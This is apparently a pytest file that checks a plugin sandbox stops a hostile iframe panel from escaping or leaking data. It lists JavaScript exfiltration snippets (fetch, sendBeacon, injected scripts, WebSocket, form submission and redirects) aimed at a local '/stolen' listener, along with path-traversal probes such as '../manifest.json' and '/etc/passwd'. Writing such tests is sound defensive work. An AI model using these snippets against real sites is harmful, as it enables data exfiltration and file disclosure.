"""Attacks of a hostile panel in a real browser that stops them, and access to its files (abi.md 13)."""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.mounted.ctx_mount import Ctx
from tests.web.acting import part
from tests.web.browsing import Tab, WebProcess
from tests.web.showing import install, package, panel, tried
from tests.web.test_web_gate import asked, token

__all__ = ["token"]
REFUSED = "refused:"
# Attempts that the frame itself refuses. Each returns its result, if there is one.
OF_THE_PAGE = {
    "its parent": "return parent.document.title;",
    "storage": "return localStorage.length;",
    "a database": "return await new Promise((done, fail) => { const one = indexedDB.open('x');"
    " one.onsuccess = () => done('open'); one.onerror = fail; });",
    "cookies": "document.cookie = 'a=b'; return document.cookie;",
    "a worker of its origin": "return await navigator.serviceWorker.register('./panel.js');",
    "our interface": "return (await fetch('/api/status')).status;",
    "a module of its own": "return await import('./panel.js');",
    "a script made of text": "return await import('data:text/javascript,export default 1');",
    "the clipboard": "return await navigator.clipboard.readText();",
}
# Attempts to send something to another host, whose address is `at`.
OUTSIDE = (
    "fetch(at, {mode: 'no-cors'}).catch(() => {})",
    "navigator.sendBeacon(at, 'x')",
    "new Image().src = at",
    "document.body.append(Object.assign(document.createElement('script'), {src: at}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: at}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: at}))",
    "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: at}))",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: at}))",
    "document.body.append(Object.assign(document.createElement('object'), {data: at}))",
    "new WebSocket(at.replace('http', 'ws'))",
    "new EventSource(at)",
    "new Worker(URL.createObjectURL(new Blob([`fetch('${at}')`])))",
    "window.open(at)",
    "document.body.style.background = `url(${at})`",
)
# The same by navigating the frame or the tab, each from a new page. Where a browser stops a page, it shows an
# error page in its place, and further scripts of the test would run in the error page.
LEADING = (
    "{ const form = document.createElement('form'); form.action = at; document.body.append(form);"
    " form.submit(); }",
    "{ const form = document.createElement('form'); form.action = at; form.target = '_top';"
    " document.body.append(form); form.requestSubmit(); }",
    "top.location = at",
    "open(at, '_top')",
)
AWAY = (
    "document.head.append(Object.assign(document.createElement('meta'),"
    " {httpEquiv: 'refresh', content: `0;url=${at}`}))",
    "location = at",
)


@pytest.fixture(scope="module")
def hostile(ctx: Ctx) -> Iterator[str]:
    name = install(ctx, package(ctx.work / "hostile-plugin"))
    yield name
    ctx.ctx("plugin", "uninstall", name, "--purge")


@pytest.fixture
def tab(tab: Tab) -> Iterator[Tab]:
    """Expect reports of the browser, as the policy refuses each attempt of a panel."""
    yield tab
    tab.faults.clear()


@contextlib.contextmanager
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another host: yields its address, and the list of requests to it."""
    came: list[str] = []

    class Hears(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *said: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hears) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/stolen", came
        finally:
            server.shutdown()
            thread.join()


def test_a_panel_reaches_nothing(tab: Tab, page: WebProcess, hostile: str) -> None:
    # abi.md 13.29
    frame = panel(tab, page, hostile)
    assert frame.evaluate("[self.origin, document.domain]") == ["null", ""]
    for name, body in OF_THE_PAGE.items():
        assert str(tried(frame, body)).startswith(REFUSED), name
    with outside() as (address, came):
        for number, body in enumerate(OUTSIDE):
            tried(frame, f"const at = {json.dumps(f'{address}{number}')}; {body}; return 1;")
        for number, body in enumerate(LEADING):
            frame = panel(tab, page, hostile)
            with contextlib.suppress(Exception):  # the browser may close the frame for it
                tried(frame, f"const at = {json.dumps(f'{address}-leading{number}')}; {body}; return 1;")
        for number, body in enumerate(AWAY):
            frame = panel(tab, page, hostile)
            at = json.dumps(f"{address}-away{number}")
            frame.evaluate(f"() => {{ const at = {at}; setTimeout(() => {{ {body} }}) }}")
            tab.get_by_role("alert").get_by_text("It led itself elsewhere").wait_for()
        part(tab, page, "status")  # by then each request of the frames is on its way or given up
        assert tab.url.startswith(page.url)
        assert len(tab.context.pages) == 1
        assert came == []


def test_a_panel_leads_nobody_away(tab: Tab, page: WebProcess, hostile: str) -> None:
    # abi.md 13.29, 13.32
    frame = panel(tab, page, hostile)
    assert tried(frame, "return String(window.open('about:blank'))") == "null"
    assert tried(frame, "alert(1); return confirm('x')") is False
    assert tried(frame, "top.location = 'about:blank'; return 1").startswith(REFUSED)
    assert tab.url.startswith(page.url)
    with contextlib.suppress(Exception):  # the frame's page goes away during the call
        frame.evaluate("location.reload()")
    tab.get_by_role("alert").get_by_text("It led itself elsewhere").wait_for()
    assert tab.locator("iframe").count() == 0
    tab.get_by_role("link", name=hostile).click()  # the page itself still works
    tab.get_by_role("heading", name=hostile).wait_for()


def opened(page: WebProcess, token: dict[str, str], plugin: str, part_: str = "panel/main") -> Any:
    return asked(page, "POST", "/api/frame/open", {"plugin": plugin, "part": part_}, token)


def test_an_address_works_once(page: WebProcess, token: dict[str, str], hostile: str) -> None:
    # abi.md 13.29
    assert opened(page, {}, hostile)[0] == 401
    _, found, _ = opened(page, token, hostile)
    beside = found["path"].replace("main.html", "panel.js")
    assert asked(page, "GET", beside)[0] == 404  # nothing before the page
    status, said, headers = asked(page, "GET", found["path"], headers={"Origin": "null"})
    assert status == 200
    assert b"It is here" in said
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts allow-forms; default-src 'none'; ")
    for words in ("connect-src 'none'", "form-action 'none'", "frame-src 'none'", "worker-src 'none'"):
        assert f"; {words};" in policy
    assert policy.endswith(f"; frame-ancestors {page.url.rstrip('/')}")
    assert "allow-same-origin" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert not [name for name in headers if name.lower().startswith("access-control")]
    assert asked(page, "GET", found["path"])[0] == 404
    assert asked(page, "GET", beside)[0] == 200
    assert asked(page, "POST", "/api/frame/close", {"frame": found["frame"]}, token)[0] == 200
    assert asked(page, "GET", beside)[0] == 404
    assert asked(page, "GET", "/api/status", headers={**token, "Origin": "null"})[0] == 403


def test_no_file_is_served_but_those_below_the_page(
    page: WebProcess, token: dict[str, str], hostile: str
) -> None:
    # abi.md 13.29
    _, found, _ = opened(page, token, hostile)
    base = found["path"].removesuffix("main.html")
    assert asked(page, "GET", found["path"])[0] == 200
    assert asked(page, "GET", f"{base}deep/more.css")[0] == 200
    for path in (
        "mod.ts", "../mod.ts", "../manifest.json", "%2e%2e/manifest.json", "..%2fmanifest.json",
        "/etc/passwd", "//etc/passwd", "deep/../../mod.ts", "deep/", "", ".", "%00", "panel.js/",
    ):  # fmt: skip
        assert asked(page, "GET", base + path)[0] == 404, path
    for path in ("/frames/", "/frames/x/main.html", f"/frames/{'x' * 43}/main.html", "/frames"):
        assert asked(page, "GET", path)[0] == 404
